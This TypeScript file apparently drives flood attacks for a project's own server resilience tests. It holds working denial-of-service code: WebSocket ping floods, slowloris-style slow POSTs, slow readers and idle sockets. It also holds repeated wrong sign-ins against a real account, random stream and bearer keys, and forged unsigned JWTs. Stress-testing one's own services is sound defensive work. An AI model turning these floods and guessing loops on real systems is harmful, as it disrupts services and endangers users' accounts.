// The floods' own side, for a process of their own (attacker.ts): sockets that say too much, too little or the wrong
// word. Each is bounded, so that it is the victim that is measured and not the machine.
import { randomBytes } from 'node:crypto';
import { Agent, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { encodeClientFrame, limits, routerConstant, rtpCapabilitiesToWire } from '@meridian/protocol';
import { concatBytes } from '@meridian/room-media/core';
import { encodeMessage } from '../../../media/gateway/src/core/rtmp/chunks.ts';
import { commandMessage } from '../../../media/gateway/src/core/rtmp/commands.ts';
import { HANDSHAKE_BYTES } from '../../../media/gateway/src/core/rtmp/handshake.ts';

/** What a flood does. `sockets`, `atOnce`: of each address. Paths begin with a slash. */
export type Attack =
  /** Control: how much the machine itself changes between two phases. */
  | { readonly kind: 'nothing' }
  | { readonly kind: 'pings'; readonly path: string; readonly sockets: number }
  | { readonly kind: 'emptyRtmp'; readonly sockets: number; readonly bytesPerSecond: number }
  | { readonly kind: 'idle'; readonly sockets: number }
  | { readonly kind: 'slowPost'; readonly paths: readonly string[]; readonly sockets: number }
  | { readonly kind: 'slowReaders'; readonly path: string; readonly sockets: number; readonly perSecond: number }
  | { readonly kind: 'wrongSignIns'; readonly path: string; readonly email: string; readonly atOnce: number }
  | { readonly kind: 'wrongRtmpKeys'; readonly perSecond: number }
  | { readonly kind: 'wrongTokens'; readonly path: string; readonly perSecond: number }
  | { readonly kind: 'wrongHttpKeys'; readonly perSecond: number };

export interface Flood {
  readonly attack: Attack;
  readonly host: string;
  readonly port: number;
  /** Local ones, in turn. */
  readonly addresses: readonly string[];
  /** Of its process. */
  readonly niceness: number;
}

/** What it did so far. */
export type Counts = Record<'opened' | 'ended' | 'failed' | 'sentBytes' | 'asked' | 'refused' | 'served', number>;

/** Of connections that are opened at first. */
const OPENED_PER_SECOND = 10_000;
const TURN_MS = 10;
/** An address that was cut comes again. */
const AGAIN_MS = 500;
/** Of frames without content: several times what a core reads. */
const PING_BYTES_PER_SECOND = 20_000_000;
const PING = Buffer.of(0x89, 0x80, 0, 0, 0, 0);
const PINGS = Buffer.concat(Array.from({ length: 1000 }, () => PING));
const EMPTY_CHUNKS = Buffer.alloc(65_536, 0xc2);
const TRICKLE_MS = 1000;
const UNDER_WAY_MAX = 200;
/** An answer of a victim that is slow is not waited for longer. */
const ANSWER_MS = 10_000;

/** Begins. It goes on until the process ends. */
export function begin(flood: Flood, counts: Counts): void {
  const { attack } = flood;
  switch (attack.kind) {
    case 'nothing':
      break;
    case 'pings':
      hold(flood, counts, attack, pings(flood, counts, attack.path));
      break;
    case 'emptyRtmp':
      hold(flood, counts, attack, emptyRtmp(counts, attack.bytesPerSecond));
      break;
    case 'idle':
      hold(flood, counts, attack, () => undefined);
      break;
    case 'slowPost':
      hold(flood, counts, attack, slowPost(flood, attack.paths));
      break;
    case 'slowReaders':
      hold(flood, counts, attack, (socket) => {
        socket.pause();
        socket.write(`GET ${attack.path} HTTP/1.1\r\nhost: ${flood.host}\r\n\r\n`);
      });
      break;
    case 'wrongSignIns':
      wrongSignIns(flood, counts, attack);
      break;
    case 'wrongRtmpKeys':
      repeat(attack.perSecond, (count) => wrongRtmpKey(flood, counts, count));
      break;
    case 'wrongTokens':
      repeat(attack.perSecond, (count) => wrongToken(flood, counts, attack.path, count));
      break;
    case 'wrongHttpKeys':
      wrongHttpKeys(flood, counts, attack.perSecond);
      break;
  }
}

/** Keeps so many sockets of each address open, and opens one that was ended again. */
function hold(
  { addresses, host, port }: Flood,
  counts: Counts,
  { sockets, perSecond = OPENED_PER_SECOND }: { readonly sockets: number; readonly perSecond?: number },
  use: (socket: Socket) => void,
): void {
  const open = (localAddress: string): void => {
    const socket = connect({ host, port, localAddress, noDelay: true });
    socket.on('error', () => {
      counts.failed += 1;
    });
    socket.once('connect', () => {
      counts.opened += 1;
      socket.on('data', () => undefined);
      use(socket);
    });
    socket.once('close', () => {
      counts.ended += 1;
      setTimeout(() => open(localAddress), AGAIN_MS);
    });
  };
  const wanted = Array.from({ length: sockets }, () => addresses).flat();
  repeat(perSecond, () => {
    const address = wanted.shift();
    if (address !== undefined) open(address);
  });
}

/** Calls so often in even turns. */
function repeat(perSecond: number, once: (count: number) => void): void {
  const begunMs = performance.now();
  let count = 0;
  setInterval(() => {
    const dueCount = Math.floor(((performance.now() - begunMs) * perSecond) / 1000);
    // What a slow turn missed is not made up for: the rate is a bound.
    const atOnceMax = Math.ceil((perSecond * 5 * TURN_MS) / 1000);
    for (count = Math.max(count, dueCount - atOnceMax); count < dueCount; count += 1) once(count);
  }, TURN_MS);
}

/**
 * Sockets that write these bytes without end, so many a second in all, and no more than they are taken. Bytes are made
 * of units of `unitBytes`, of which each write has whole ones.
 */
class Pump {
  readonly #sockets = new Set<Socket>();

  constructor(bytes: Buffer, o: { unitBytes: number; bytesPerSecond: number; counts: Counts }) {
    const { unitBytes, bytesPerSecond, counts } = o;
    setInterval(() => {
      const share = (bytesPerSecond * TURN_MS) / 1000 / Math.max(1, this.#sockets.size);
      const each = Math.floor(share / unitBytes) * unitBytes;
      for (const socket of this.#sockets) {
        if (socket.writableNeedDrain) continue;
        for (let left = each; left > 0; left -= bytes.length) {
          const part = left < bytes.length ? bytes.subarray(0, left) : bytes;
          counts.sentBytes += part.length;
          if (!socket.write(part)) break;
        }
      }
    }, TURN_MS);
  }

  add(socket: Socket): void {
    this.#sockets.add(socket);
    socket.once('close', () => this.#sockets.delete(socket));
  }
}

/** Upgrades, then control frames without end. */
function pings({ host }: Flood, counts: Counts, path: string): (socket: Socket) => void {
  const pump = new Pump(PINGS, { unitBytes: PING.length, bytesPerSecond: PING_BYTES_PER_SECOND, counts });
  return (socket) => {
    socket.write(upgradeOf(host, path));
    socket.once('data', (answer: Buffer) => {
      if (answer.subarray(0, 12).toString('latin1') === 'HTTP/1.1 101') pump.add(socket);
      else counts.refused += 1;
    });
  };
}

const upgradeOf = (host: string, path: string): string =>
  [
    ...[`GET ${path} HTTP/1.1`, `Host: ${host}`, 'Connection: Upgrade', 'Upgrade: websocket'],
    ...['Sec-WebSocket-Version: 13', `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}`, '', ''],
  ].join('\r\n');

/** Handshake, `connect`, one empty message of type 3, then a byte for each further one. */
function emptyRtmp(counts: Counts, bytesPerSecond: number): (socket: Socket) => void {
  const pump = new Pump(EMPTY_CHUNKS, { unitBytes: 1, bytesPerSecond, counts });
  const acknowledgement = { typeId: 3, streamId: 0, timestampMs: 0, payload: new Uint8Array(0) };
  const hello = concatBytes([rtmpConnect(), encodeMessage(acknowledgement, { chunkStreamId: 2, chunkBytes: 128 })]);
  return (socket) => {
    socket.write(hello);
    pump.add(socket);
  };
}

function rtmpConnect(): Uint8Array {
  const place = new Map([
    ['app', 'live'],
    ['tcUrl', 'rtmp://gateway/live'],
  ]);
  const shake = concatBytes([Uint8Array.of(3), new Uint8Array(2 * HANDSHAKE_BYTES)]);
  return concatBytes([shake, rtmpCall('connect', 1, 0, [place])]);
}

const rtmpCall = (
  name: string,
  transactionId: number,
  streamId: number,
  values: Parameters<typeof commandMessage>[0]['values'],
): Uint8Array =>
  encodeMessage(commandMessage({ name, transactionId, streamId, values }), { chunkStreamId: 3, chunkBytes: 128 });

/** A body that comes byte by byte. */
function slowPost({ host }: Flood, paths: readonly string[]): (socket: Socket) => void {
  const head = ['content-type: application/json', 'content-length: 5000'].join('\r\n');
  let count = 0;
  return (socket) => {
    socket.write(`POST ${paths[count++ % paths.length]} HTTP/1.1\r\nhost: ${host}\r\n${head}\r\n\r\n{`);
    const timer = setInterval(() => socket.write(' '), TRICKLE_MS);
    socket.once('close', () => clearInterval(timer));
  };
}

/** Wrong sign-ins, of the honest person's account and of made-up ones, so many at once. */
function wrongSignIns(
  { addresses, host, port }: Flood,
  counts: Counts,
  { path, email, atOnce }: Extract<Attack, { kind: 'wrongSignIns' }>,
): void {
  for (const localAddress of addresses) {
    const agent = new Agent({ keepAlive: true, maxSockets: atOnce });
    const headers = { 'content-type': 'application/json', origin: `http://${host}:${port}` };
    const work = async (): Promise<void> => {
      for (let count = 0; ; count += 1) {
        const who = count % 2 === 0 ? email : `${randomBytes(4).toString('hex')}@example.org`;
        const body = JSON.stringify({ email: who, password: `wrong ${count}` });
        await askOnce({ agent, localAddress, host, port, path, method: 'POST', headers, body }, counts);
        // A refusal that costs nothing is not asked for ten thousand times a second.
        await new Promise((resolve) => setTimeout(resolve, 5 * TURN_MS));
      }
    };
    for (let at = 0; at < atOnce; at += 1) void work();
  }
}

function wrongHttpKeys({ addresses, host, port }: Flood, counts: Counts, perSecond: number): void {
  const agent = new Agent({ keepAlive: true, maxSockets: UNDER_WAY_MAX });
  let underWay = 0;
  repeat(perSecond, (count) => {
    if (underWay >= UNDER_WAY_MAX) return;
    underWay += 1;
    const localAddress = addresses[count % addresses.length] ?? '';
    const key = randomBytes(90).toString('base64url');
    const asked =
      count % 2 === 0
        ? { method: 'GET' as const, path: `/live/${key}.flv`, headers: {}, body: '' }
        : { method: 'POST' as const, path: '/v1/ways', headers: { authorization: `Bearer ${key}` }, body: '' };
    void askOnce({ agent, localAddress, host, port, ...asked }, counts).finally(() => {
      underWay -= 1;
    });
  });
}

interface AskedOnce {
  readonly agent: Agent;
  readonly localAddress: string;
  readonly host: string;
  readonly port: number;
  readonly method: 'GET' | 'POST';
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string;
}

function askOnce({ body, ...o }: AskedOnce, counts: Counts): Promise<void> {
  counts.asked += 1;
  return new Promise((resolve) => {
    const headers = body === '' ? o.headers : { ...o.headers, 'content-length': Buffer.byteLength(body) };
    const asked = request({ ...o, headers, timeout: ANSWER_MS }, (response) => {
      const { statusCode = 0 } = response;
      if (statusCode >= 200 && statusCode < 300) counts.served += 1;
      else counts.refused += 1;
      response.resume();
      response.once('close', resolve);
    });
    asked.once('timeout', () => asked.destroy());
    asked.on('error', () => {
      counts.failed += 1;
      resolve();
    });
    asked.end(body === '' ? undefined : body);
  });
}

let socketsUnderWay = 0;

/** One connection that says one thing and is ended by the answer. */
function sayOnce({ addresses, host, port }: Flood, counts: Counts, count: number, say: (socket: Socket) => void): void {
  if (socketsUnderWay >= UNDER_WAY_MAX) return;
  socketsUnderWay += 1;
  counts.asked += 1;
  const localAddress = addresses[count % addresses.length] ?? '';
  const socket = connect({ host, port, localAddress, noDelay: true });
  socket.setTimeout(ANSWER_MS, () => socket.destroy());
  socket.on('error', () => {
    counts.failed += 1;
  });
  socket.once('close', () => {
    socketsUnderWay -= 1;
  });
  socket.once('connect', () => {
    counts.opened += 1;
    say(socket);
  });
}

function wrongRtmpKey(flood: Flood, counts: Counts, count: number): void {
  const key = randomBytes(90).toString('base64url');
  const words = concatBytes([
    rtmpConnect(),
    rtmpCall('createStream', 2, 0, [null]),
    rtmpCall('publish', 3, 1, [null, key, 'live']),
  ]);
  sayOnce(flood, counts, count, (socket) => {
    socket.write(words);
    socket.on('data', (answer: Buffer) => {
      if (!answer.includes('NetStream.Publish.Denied')) return;
      counts.refused += 1;
      socket.destroy();
    });
  });
}

function wrongToken(flood: Flood, counts: Counts, path: string, count: number): void {
  const frame = masked(encodeClientFrame({ requestId: 1, join: joinWith(forged()) }));
  sayOnce(flood, counts, count, (socket) => {
    socket.write(upgradeOf(flood.host, path));
    socket.once('data', (answer: Buffer) => {
      if (answer.subarray(0, 12).toString('latin1') !== 'HTTP/1.1 101') {
        counts.refused += 1;
        socket.destroy();
        return;
      }
      socket.write(frame);
      // The refusal, and the close behind it.
      socket.once('data', () => {
        counts.refused += 1;
        socket.destroy();
      });
    });
  });
}

/** A token of the right form that the key has not signed. */
function forged(): string {
  const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');
  const nowS = Math.floor(Date.now() / 1000);
  const claims = { iss: 'devkey', sub: 'mallory', exp: nowS + 600, video: { room: 'lobby', roomJoin: true } };
  return `${part({ alg: 'HS256', typ: 'JWT' })}.${part(claims)}.${randomBytes(32).toString('base64url')}`;
}

function joinWith(token: string): object {
  const value = Array.from({ length: 32 }, (_, at) => (at + 16).toString(16).toUpperCase()).join(':');
  const webrtc = { fingerprint: { algorithm: 'sha-256', value } };
  return {
    protocolVersion: limits.protocolVersion,
    token,
    sdk: 'flood',
    routerVersion: routerConstant.version,
    recvRtpCapabilities: rtpCapabilitiesToWire(routerConstant.capabilities),
    sendEndpoint: { webrtc },
    recvEndpoint: { webrtc },
  };
}

/** One binary frame with a mask of zeros (RFC 6455, 5.2). */
function masked(payload: Uint8Array): Buffer {
  const head = Buffer.from([0x82, 0xfe, payload.length >> 8, payload.length & 0xff, 0, 0, 0, 0]);
  return Buffer.concat([head, payload]);
}
